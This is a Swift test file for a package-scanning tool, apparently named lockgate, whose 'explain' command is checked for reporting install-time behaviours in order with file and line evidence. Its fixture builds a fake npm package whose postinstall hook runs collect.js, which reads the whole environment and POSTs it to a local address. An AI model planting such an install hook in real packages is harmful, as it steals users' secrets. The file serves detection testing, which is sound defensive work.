import Foundation
import LockgateTestSupport
import Testing

/// `lockgate explain` on synthetic packages: the sequence in execution order, with evidence.
@Suite struct ExplainCommandTests {
    /// A package whose postinstall runs a file that reads the whole environment and posts it to 127.0.0.1, and whose
    /// main module only formats numbers.
    static func stealer() throws -> Data {
        try PackageFixtures.npmTarball([
            "package.json": """
                {"name": "env-helper", "version": "0.0.1", "main": "index.js",
                 "scripts": {"postinstall": "node collect.js"}}
                """,
            "collect.js": """
                const https = require('http');
                const data = JSON.stringify(process.env);
                const req = https.request({hostname: '127.0.0.1', port: 8080, method: 'POST'});
                req.write(data);
                req.end();
                """,
            "index.js": "module.exports = (n) => n.toFixed(2);\n",
        ])
    }

    @Test func installTimeBehavioursComeFirstWithEvidence() throws {
        let directory = try TemporaryDirectory()
        try directory.write("env-helper-0.0.1.tgz", data: try Self.stealer())
        let result = try CommandRunner.lockgate(["explain", "env-helper-0.0.1.tgz", "--format", "json"], in: directory.path)
        #expect(result.status == 0, "\(result.stderr)")
        let document = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        let tokens = (document["tokens"] as? [[String: Any]] ?? []).compactMap { $0["token"] as? String }
        let position = { (token: String) in tokens.firstIndex(of: token) ?? Int.max }
        #expect(position("start:install") < position("install:read_env_all"))
        #expect(position("install:read_env_all") < position("install:use_network"))
        #expect(position("install:use_network") < position("start:main"))
        let envDump = (document["tokens"] as? [[String: Any]] ?? []).first { $0["token"] as? String == "install:read_env_all" }
        let behaviour = envDump?["behaviour"] as? [String: Any]
        #expect(behaviour?["path"] as? String == "package/collect.js")
        #expect(behaviour?["line"] as? Int == 2)
    }

    @Test func textListsEachBehaviourWithItsLocation() throws {
        let directory = try TemporaryDirectory()
        try directory.write("env-helper-0.0.1.tgz", data: try Self.stealer())
        let result = try CommandRunner.lockgate(["explain", "env-helper-0.0.1.tgz"], in: directory.path)
        #expect(result.status == 0)
        #expect(result.stdout.contains("install:read_env_all  package/collect.js:2:"))
    }

    @Test func unreadableInputExitsThree() throws {
        let directory = try TemporaryDirectory()
        try directory.write("junk.tgz", "not an archive")
        #expect(try CommandRunner.lockgate(["explain", "junk.tgz"], in: directory.path).status == 3)
        #expect(try CommandRunner.lockgate(["explain", "missing.tgz"], in: directory.path).status == 3)
    }
}
